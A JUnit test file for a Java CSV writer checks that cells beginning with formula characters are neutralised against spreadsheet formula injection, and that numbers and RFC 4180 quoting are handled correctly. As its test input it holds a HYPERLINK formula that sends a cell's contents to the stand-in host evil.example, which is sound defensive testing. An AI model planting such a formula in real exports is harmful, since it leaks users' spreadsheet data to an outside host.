package uz.shaffof.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/** OWASP "CSV Injection": no published cell is run as a formula by a spreadsheet, and numbers stay numbers. */
class CsvWriterTest {
    /** Every character a spreadsheet program reads as the start of a formula, ASCII and full-width. */
    @ParameterizedTest(name = "U+{0}")
    @ValueSource(strings = {"003D", "002B", "002D", "0040", "0009", "000D", "FF1D", "FF0B", "FF0D", "FF20"})
    void aCellBeginningWithAFormulaStartGetsAnApostropheAndQuotes(String hex) {
        String start = Character.toString(Integer.parseInt(hex, 16));
        String text = start + "HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        String expected = "\"'" + text.replace("\"", "\"\"") + "\"";
        assertEquals(expected, CsvWriter.cell(text));
        assertEquals("\"'" + start + "\"", CsvWriter.cell(start), "the character alone");
        assertEquals("\"'" + start + "1+1\"", CsvWriter.cell(start + "1+1"));
    }

    @Test
    void plainNumbersAreLeftAsNumbersNegativeOnesIncluded() {
        for (String n : List.of("-52.3", "-0.5", "-12572", "0", "37.7", "12572.30")) {
            assertEquals(n, CsvWriter.cell(n), n);
        }
    }

    @Test
    void somethingThatOnlyLooksLikeANumberIsNeutralised() {
        assertEquals("\"'-1+2\"", CsvWriter.cell("-1+2"));
        assertEquals("\"'+5\"", CsvWriter.cell("+5"));
        assertEquals("\"'-5%\"", CsvWriter.cell("-5%"));
        assertEquals("\"'-\"", CsvWriter.cell("-"));
        assertEquals("\"'-1.\"", CsvWriter.cell("-1."));
        assertEquals("\"'-1e3\"", CsvWriter.cell("-1e3"));
    }

    @Test
    void otherCellsAreQuotedOnlyAsRfc4180Asks() {
        assertEquals("Andijon", CsvWriter.cell("Andijon"));
        assertEquals("UZ-AN", CsvWriter.cell("UZ-AN"), "a hyphen inside is harmless");
        assertEquals("\"a,b\"", CsvWriter.cell("a,b"));
        assertEquals("\"Vazirlik \"\"A\"\"\"", CsvWriter.cell("Vazirlik \"A\""));
        assertEquals("\"a\nb\"", CsvWriter.cell("a\nb"));
        assertEquals(" =1+1", CsvWriter.cell(" =1+1"), "a leading space makes it text in every spreadsheet");
        assertEquals("", CsvWriter.cell(""));
    }

    @Test
    void aWholeFileHasAHeaderLfLineEndsAndNeutralisedCells() {
        String csv = CsvWriter.write(List.of("region", "name", "value"),
                List.of(List.of("UZ-AN", "=1+1", "-52.3"), List.of("UZ-BU", "@cmd", "")));
        assertEquals("region,name,value\nUZ-AN,\"'=1+1\",-52.3\nUZ-BU,\"'@cmd\",\n", csv);
        assertFalse(csv.contains("\r"));
        assertTrue(csv.endsWith("\n"));
    }
}
